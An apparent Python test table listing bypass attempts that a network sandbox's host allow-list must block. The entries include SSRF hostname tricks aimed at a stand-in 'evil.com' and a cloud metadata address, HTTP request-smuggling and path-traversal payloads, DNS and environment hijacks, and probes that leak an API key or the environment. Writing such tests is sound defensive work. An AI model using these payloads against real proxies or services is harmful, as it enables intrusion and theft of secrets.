# ruff: noqa: E501 - a table, in which each attack has its line
"""Ways around the list of hosts, one entry each: code that must get nothing through.

Each may only reach what `PERMITTED` names; whatever it prints must not hold the key. The code has
helpers (`PRELUDE`); errors of its own are part of the game.
"""

from __future__ import annotations

from typing import Any, NamedTuple

KEY = "sk-Very/Secret+Key=0123"
SPECIAL = (
    "platform", "carrier", "benchmark", "special", "zero", "reserved", "mapped", "nat64",
    "sixtofour", "compatible", "local6", "link6",
)  # fmt: skip
"""Listed names whose addresses are not public."""
NETWORK: tuple[Any, ...] = (
    "api.example.com",
    "*.example.org:443",
    "inside.example.net",
    "metadata.example.net",
    "mixed.example.net",
    "changing.example.net",
    "loop.example.net",
    "untrusted.example.net",
    *(f"{name}.example.net" for name in SPECIAL),
    ["GET", "https://other.example.com/open/*"],
)
PERMITTED = "/permitted"
PRELUDE = r"""
import base64, http.client, json, os, socket, ssl, threading, time, urllib.error, urllib.request
import warnings
warnings.simplefilter("ignore")
def get(url, **headers):
    request = urllib.request.Request(url, headers={k.replace("_", "-"): v for k, v in headers.items()})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return answer.read()
    except urllib.error.HTTPError as error:
        return error.read()
def raw(data, host="api.example.com", port=80, tls=False, name=None, wait=0.1):
    sock = socket.create_connection((host, port), 5)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        sock = context.wrap_socket(sock, server_hostname=name or host)
    sock.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
    sock.settimeout(wait)
    answer = b""
    try:
        while piece := sock.recv(65536):
            answer += piece
    except OSError:
        pass
    return answer
def head(target="/forbidden", host="api.example.com", method="GET", more=""):
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"
def tried(function, *arguments, **options):
    try:
        print(repr(function(*arguments, **options)))
    except Exception as error:
        print(type(error).__name__, error)
"""


class WayAround(NamedTuple):
    """An attack: its class, its name and its steps."""

    group: str
    name: str
    steps: tuple[str, ...]

    @property
    def id(self) -> str:
        """The name of the test."""
        return f"{self.group}: {self.name}"


def _ways(group: str, **steps: str | tuple[str, ...]) -> list[WayAround]:
    return [
        WayAround(group, name, (code,) if isinstance(code, str) else code)
        for name, code in steps.items()
    ]


def _each(group: str, name: str, template: str, values: list[str]) -> list[WayAround]:
    return [
        WayAround(
            group, f"{name} {number}: {value[:30]!r}", (template.replace("VALUE", repr(value)),)
        )
        for number, value in enumerate(values, start=1)
    ]


WAYS = [
    *_ways(
        "sockets",
        address_itself="tried(raw, head(), '93.184.216.66')",
        address_of_a_listed_host="tried(raw, head(), '93.184.216.34')",
        udp="tried(lambda: socket.socket(2, 2).sendto(b'x', ('93.184.216.66', 53)))",
        ipv6="tried(lambda: socket.create_connection(('::1', 80)))",
        unix="tried(lambda: socket.socket(socket.AF_UNIX))",
        raw="tried(lambda: socket.socket(2, 3, 1))",
        netlink="tried(lambda: socket.socket(16, 3, 0))",
        mptcp="tried(lambda: socket.socket(2, 1, 262))",
        vsock="tried(lambda: socket.socket(40, 1, 0))",
        listen="tried(lambda: (lambda s: (s.bind(('127.0.0.1', 0)), s.listen()))(socket.socket()))",
        fast_open="tried(lambda: socket.socket().sendto(head().encode(), 0x20000000, ('93.184.216.66', 80)))",
        other_port_of_loopback="tried(raw, head(), '127.0.0.1', 8080)",
        host_loopback="tried(raw, head(), '127.0.0.1', 80)",
        gateway="tried(raw, head(), '10.0.0.1', 80)",
        unknown_loopback="tried(raw, head(), '127.9.9.9', 80)",
        next_loopback="tried(raw, head(host='evil.com'), '127.1.0.40', 80)",
        name_door_as_http="tried(raw, head(), '127.1.0.1', 80)",
        larger_buffers="s = socket.socket(); s.setsockopt(1, 7, 1 << 30); print(s.getsockopt(1, 7) < 1 << 20)",
    ),
    *_each(
        "names", "host", "tried(get, 'http://' + VALUE + '/forbidden')",
        ["evil.com", "api.example.com.evil.com", "badexample.org", "example.org", "xapi.example.com",
         "api.example.com@evil.com", "evil.com#api.example.com", "evil.com%23.api.example.com",
         "api.example.com%00.evil.com", "evil%2ecom", "EVIL.COM", "evil.com.",
         "\u0430pi.example.com", "evil\u3002com", "api.example.com\\@evil.com", "0x7f000001",
         "2130706433", "0177.0.0.1", "127.1", "[::ffff:10.0.0.5]", "10.0.0.5", "169.254.169.254",
         "localhost", "api", "listed-inside", "-.example.org", "a..example.org"],
    ),
    *_each(
        "names", "host of a wildcard", "tried(get, 'https://' + VALUE + '/forbidden')",
        ["badexample.org", "example.org", "a..example.org", "a.example.org.evil.com", "evil.com"],
    ),
    *_each(
        "name door", "name",
        "tried(lambda: raw(VALUE + '\\n', '127.1.0.1', 443))",
        ["evil.com", "*.example.org", "a.example.org\x00.evil.com", "x" * 500, "", "-a.example.org",
         "leak-of-data.evil.com", "a.example.org evil.com"],
    ),
    *_ways(
        "names",
        many_lookups="for i in range(700):\n    try: socket.getaddrinfo(f'n{i}.example.org', 443)\n    except OSError as e: print(e); break",
        environment_emptied="os.environ.clear(); tried(get, 'http://evil.com/forbidden')",
        proxy_set="os.environ['http_proxy'] = 'http://93.184.216.66:80'; tried(get, 'http://api.example.com/forbidden')",
        real_lookup="import _socket; tried(_socket.getaddrinfo, 'evil.com', 80)",
    ),
    *_ways(
        "addresses",
        private="tried(get, 'http://inside.example.net/forbidden')",
        private_tls="tried(get, 'https://inside.example.net/forbidden')",
        metadata="tried(get, 'http://metadata.example.net/forbidden')",
        mixed="tried(get, 'http://mixed.example.net/forbidden')",
        loopback="tried(get, 'http://loop.example.net/forbidden')",
        changing="for _ in range(4): tried(get, 'http://changing.example.net/permitted')",
    ),
    *_ways(
        "ports",
        forged="tried(raw, head(host='api.example.com:8080'))",
        other="tried(raw, head(), 'api.example.com', 8080)",
        overflowing="tried(raw, head(host='api.example.com:65616'))",
        listed_for_https_only="tried(raw, head(host='a.example.org'), 'a.example.org', 80)",
        clear_text_on_443="tried(raw, head(), 'a.example.org', 443)",
    ),
    *_ways(
        "fronting",
        host_header="tried(raw, head(host='evil.com'))",
        host_header_tls="tried(raw, head(host='evil.com'), port=443, tls=True)",
        two_hosts="tried(raw, head(more='Host: evil.com\\r\\n'))",
        no_host="tried(raw, 'GET /forbidden HTTP/1.1\\r\\n\\r\\n')",
        other_sni="tried(raw, head(), port=443, tls=True, name='evil.com')",
        sni_of_another_listed="tried(raw, head(host='other.example.com'), port=443, tls=True)",
        no_sni="tried(lambda: ssl._create_unverified_context().wrap_socket(socket.create_connection(('api.example.com', 443))).sendall(head().encode()))",
        absolute_target="tried(raw, head('http://evil.com/forbidden'))",
        absolute_target_of_host="tried(raw, head('http://api.example.com/forbidden'))",
        target_with_user="tried(raw, head('@evil.com/forbidden'))",
        target_with_fragment="tried(raw, head('/forbidden#x'))",
        double_slash_target="print(b'evil' in raw(head('//evil.com/permitted')))",
        host_with_user="tried(raw, head(host='api.example.com@evil.com'))",
        forwarded_host_under_a_rule="tried(raw, head('/open/permitted', 'other.example.com', more='X-Forwarded-Host: evil.com\\r\\n'), 'other.example.com', 443, True)",
    ),
    *_each(
        "framing", "head", "tried(raw, VALUE)",
        [
            "GET /forbidden HTTP/1.1\nHost: api.example.com\n\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nX: a\nY: b\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n b\r\n\r\n",
            "GET  /forbidden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "GET\t/forbidden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "GET /forbidden HTTP/1.0\r\nHost: api.example.com\r\n\r\n",
            "GET /forbidden HTTP/2.0\r\nHost: api.example.com\r\n\r\n",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "GET /forbidden\r\n\r\n",
            "get /forbidden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\n\r\n",
            "connect evil.com:443 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "TRACE /forbidden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost : api.example.com\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nX\x00: a\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nX: a\x00b\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nConnection: upgrade, host\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nConnection: host\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 0, 0\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: -1\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: +1\r\n\r\na",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
            "POST /forbidden HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\nX: " + "a" * 40000 + "\r\n\r\n",
            "GET /forbidden HTTP/1.1\r\nHost: api.example.com\r\n" + "X: a\r\n" * 200 + "\r\n",
            "\x16\x03\x01\x00\x00 no TLS /forbidden",
            "\r\n\r\nGET /forbidden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
            "GET /forb\xefdden HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        ],
    ),
    *_ways(
        "framing",
        pipelined="tried(raw, head('/permitted') + head('/forbidden', 'evil.com'))",
        smuggled_in_a_body="tried(raw, head('/permitted', method='POST', more='Content-Length: 60\\r\\n') + head('/permitted')[:60])",
        chunk_with_sign="tried(raw, head('/permitted', method='POST', more='Transfer-Encoding: chunked\\r\\n') + '+5\\r\\nhello\\r\\n0\\r\\n\\r\\n')",
        chunk_extension="tried(raw, head('/permitted', method='POST', more='Transfer-Encoding: chunked\\r\\n') + '5;x=y\\r\\nhello\\r\\n0\\r\\n\\r\\n')",
        trailers="tried(raw, head('/permitted', method='POST', more='Transfer-Encoding: chunked\\r\\n') + '0\\r\\nHost: evil.com\\r\\n\\r\\n')",
        answer_after_answer="raw(head('/second/permitted')); time.sleep(0.5); print(b'forged' in raw(head('/permitted')) and 'KEY-LEAK')",
        upgrade_of_the_server="print(b'101' in raw(head('/upgrade/permitted')))",
    ),
    *_each(
        "paths", "target", "tried(raw, head(VALUE, 'other.example.com'), 'other.example.com', 443, True)",
        ["/forbidden", "/open/../forbidden", "/open/%2e%2e/forbidden", "/open/..%2fforbidden",
         "/open//../forbidden", "/open/..;/forbidden", "/open/%252e%252e/forbidden",
         "/open/..\\forbidden", "/OPEN/forbidden", "/open/%c0%ae%c0%ae/forbidden", "/openforbidden",
         "/open/%00/forbidden", "/open/./../forbidden", "/open/%5c../forbidden", "/open/;/forbidden",
         "/open/%ef%bc%8f/forbidden", "//open/forbidden"],
    ),
    *_each(
        "methods", "method", "tried(raw, head('/open/forbidden', 'other.example.com', VALUE), 'other.example.com', 443, True)",
        ["POST", "HEAD", "get", "DELETE", "OPTIONS", "GETX", "G ET"],
    ),
    *_each(
        "methods", "header", "tried(raw, head('/open/forbidden', 'other.example.com', more=VALUE + ': DELETE\\r\\n'), 'other.example.com', 443, True)",
        ["X-HTTP-Method-Override", "X-HTTP-Method", "x-method-override", "X-Original-URL", "X-Rewrite-URL"],
    ),
    *_ways(
        "redirects",
        elsewhere="tried(get, 'http://api.example.com/redirect/permitted?to=http://evil.com/forbidden')",
        to_an_address="tried(get, 'http://api.example.com/redirect/permitted?to=http://10.0.0.5/forbidden')",
        to_another_path="tried(get, 'https://api.example.com/redirect/permitted?to=https://other.example.com/forbidden')",
    ),
    *_ways(
        "certificates",
        untrusted="tried(raw, head('/forbidden', 'untrusted.example.net'), 'untrusted.example.net', 443, True)",
        own_authority="print(os.listdir('/etc')); tried(lambda: open('/etc/sandbox-ca.pem', 'a'))",
        no_key="print('PRIVATE' in open('/etc/sandbox-ca.pem').read() and 'KEY-LEAK')",
        hosts_changed="tried(lambda: open('/etc/hosts', 'a').write('1.2.3.4 x'))",
    ),
    *_each(
        "echoes", "as",
        "tried(get, 'https://api.example.com/echo/permitted?how=' + VALUE); r = get('https://api.example.com/echo/permitted?how=' + VALUE); print(r, r.decode('utf-16', 'replace')); tried(base64.b64decode, r + b'==')",
        ["plain", "upper", "percent", "percent_all", "base64", "base64_bearer", "base64_user",
         "base64_three", "hex", "json", "unicode", "utf16", "twice", "html", "chunks", "gzip"],
    ),
    *_ways(
        "echoes",
        header="print(raw(head('/echo/permitted?how=header'), port=443, tls=True))",
        location="print(raw(head('/echo/permitted?how=location'), port=443, tls=True))",
        reason="print(raw(head('/echo/permitted?how=reason'), port=443, tls=True))",
        ranges="print(b''.join(get('https://api.example.com/echo/permitted?how=range', Range=f'bytes={i}-{i}')[:1] for i in range(30)))",
        in_an_error="try: urllib.request.urlopen('https://api.example.com/status/permitted?code=500')\nexcept Exception as e: print(e, e.read(), e.headers)",
    ),
    *_ways(
        "secrets",
        environment="print(dict(os.environ))",
        memory="import gc; print([o for o in gc.get_objects() if isinstance(o, dict) and 'KEY' in o])",
        to_another_host="get('https://a.example.org/permitted', Authorization='Bearer ' + os.environ['API_KEY'])",
        in_the_clear="get('http://api.example.com/permitted')",
        own_key="get('https://api.example.com/permitted', Authorization='Bearer mine')",
        in_target="get('https://api.example.com/permitted?key=' + os.environ['API_KEY'])",
        by_redirect="tried(get, 'https://api.example.com/redirect/permitted?to=https://a.example.org/permitted')",
    ),
    *_each("addresses", "of", "tried(get, 'http://' + VALUE + '.example.net/forbidden')", list(SPECIAL)),
    *_each(
        "methods", "spelling", "tried(raw, head('/open/forbidden', 'other.example.com', more=VALUE + ': DELETE\\r\\n'), 'other.example.com', 443, True)",
        ["X_HTTP_Method_Override", "X-HTTP_METHOD", "X_Original_URL", "x-forwarded_host", "X-Forwarded-Path", "X-Original-Host"],
    ),
    *_each(
        "paths", "written as", "tried(raw, head(VALUE, 'other.example.com'), 'other.example.com', 443, True)",
        ["/open/%u002e%u002e/forbidden", "/open/..%20/forbidden", "/open/.../forbidden", "/open/..%09/forbidden",
         "/open/..%0d%0a/forbidden", "/open/%2/forbidden", "/open/%zz/../forbidden", "/open/..%7f/forbidden"],
    ),
    *_each(
        "framing", "length", "tried(raw, 'POST /forbidden HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: ' + VALUE + '\\r\\n\\r\\nabc')",
        ["1_0", "0x3", "3 3", "\u0663", "3;q", "1e1", "99999999999999999999"],
    ),
    *_each(
        "framing", "chunk of", "tried(raw, head('/permitted', method='POST', more='Transfer-Encoding: chunked\\r\\n') + VALUE + '\\r\\nhello\\r\\n0\\r\\n\\r\\n' + head('/forbidden'))",
        ["0x5", "5_0", "-5", "FFFFFFFFFFFFFFFFF", "5 ", ""],
    ),
    *_ways(
        "framing",
        coding_in_another_case="tried(raw, head(method='POST', more='Transfer-Encoding: Chunked\\r\\n') + '0\\r\\n\\r\\n')",
        expectation="tried(raw, head(more='Expect: 200-maybe\\r\\n'))",
        h2c="tried(raw, head(more='HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n'))",
        asterisk="tried(raw, head('*', method='OPTIONS'))",
        get_with_a_second_request="raw(head('/permitted', more='Content-Length: 58\\r\\n') + head('/forbidden', 'evil.com'))",
        two_answers_by_hints="import signal; tried(raw, head('/hints/permitted'), wait=1)",
        endless_head_of_an_answer="tried(raw, head('/headers/permitted'), wait=3)",
    ),
    *_ways(
        "echoes",
        trailers="print(raw(head('/trailers/permitted'), port=443, tls=True))",
        name_of_a_header="print(raw(head('/echo/permitted?how=name'), port=443, tls=True))",
        cookie="print(raw(head('/echo/permitted?how=cookie'), port=443, tls=True))",
        connection_names_the_header="print(raw(head('/echo/permitted?how=plain', more='Connection: Authorization\\r\\n'), port=443, tls=True))",
        two_of_the_header="print(raw(head('/echo/permitted?how=plain', more='AUTHORIZATION: a\\r\\nauthorization: b\\r\\n'), port=443, tls=True))",
    ),
    *_ways(
        "sockets",
        from_unspec="tried(lambda: (lambda s: (s.connect(('api.example.com', 80)), _socket.socket.connect(s, ('93.184.216.66', 80))))(socket.socket()))",
        bind_to_device="s = socket.socket(); s.setsockopt(1, 25, b'eth0'); print(s.getsockopt(1, 25, 8) == b'')",
        source_route="s = socket.socket(); s.setsockopt(0, 4, bytes([131, 7, 4, 93, 184, 216, 66])); print(s.getsockopt(0, 4, 8) == b'')",
        sctp="tried(lambda: socket.socket(2, 1, 132))",
        high_family="import ctypes; print(ctypes.CDLL(None).socket(ctypes.c_long(1 << 32 | 10), 1, 0))",
        kernel_of_tls="s = socket.create_connection(('api.example.com', 80)); s.setsockopt(6, 31, b'tls'); print(s.getsockopt(6, 31, 8))",
        first_loopback="tried(raw, head(), '127.1.0.0', 80)",
        last_loopback="tried(raw, head(), '127.255.255.254', 80)",
    ),
    *_ways(
        "name door",
        controls="tried(raw, '\\x1b[2J\\u202eevil.com\\n'.encode(), '127.1.0.1', 80)",
        many_questions="tried(raw, 'a.example.org\\nevil.com\\n' * 50, '127.1.0.1', 80)",
        without_an_end="tried(raw, 'a' * 100_000, '127.1.0.1', 80)",
        many_labels="tried(raw, 'a.' * 120 + 'example.org\\n', '127.1.0.1', 80)",
    ),
    *_ways(
        "environment",
        host_aliases="open('aliases', 'w').write('api.example.com evil.com'); os.environ['HOSTALIASES'] = os.path.abspath('aliases'); tried(get, 'http://api.example.com/permitted')",
        local_domain="os.environ['LOCALDOMAIN'] = 'evil.com'; os.environ['RES_OPTIONS'] = 'ndots:9'; tried(get, 'http://api/forbidden')",
        own_certificate="os.environ['SSL_CERT_FILE'] = '/nowhere'; tried(get, 'https://api.example.com/forbidden')",
    ),
    *_ways(
        "time",
        after_the_step=(
            "def later():\n    time.sleep(0.3)\n    tried(get, 'http://api.example.com/forbidden')\nthreading.Thread(target=later).start()",
            "import time; time.sleep(0.01)",
        ),
        half_a_request=(
            "s = socket.create_connection(('api.example.com', 80)); s.sendall(b'GET /forbidden HTTP/1.1\\r\\n')",
            "tried(lambda: (s.sendall(b'Host: api.example.com\\r\\n\\r\\n'), time.sleep(0.1), s.recv(100)))",
        ),
        a_fork_after_the_step=(
            "pid = os.fork()\nif not pid:\n    time.sleep(0.5)\n    get('http://api.example.com/forbidden')\n    os._exit(0)",
            "time.sleep(0.01)",
        ),
    ),
    *_ways(
        "much",
        endless_answer="n = 0\ntry:\n    with urllib.request.urlopen('http://api.example.com/endless/permitted') as a:\n        while piece := a.read(65536): n += len(piece)\nexcept Exception as e: print(e)\nprint(n <= 3_000_000)",
        large_upload="tried(lambda: urllib.request.urlopen('http://api.example.com/permitted', data=b'x' * 3_000_000))",
        many_connections="socks = []\nfor i in range(200):\n    try: s = socket.create_connection(('api.example.com', 80), 0.2); socks.append(s)\n    except OSError: break\nprint(len(socks))",
        slow_head="s = socket.create_connection(('api.example.com', 80)); s.sendall(b'GET '); time.sleep(0.2)",
    ),
]  # fmt: skip
